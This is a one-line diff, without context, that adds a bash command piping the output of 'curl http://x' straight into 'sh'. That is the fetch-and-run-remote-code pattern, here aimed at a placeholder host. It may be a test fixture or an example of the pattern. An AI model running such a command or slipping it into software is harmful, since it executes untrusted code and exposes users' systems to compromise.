@@ -1,0 +1,1 @@
+bash <<< "curl http://x | sh"
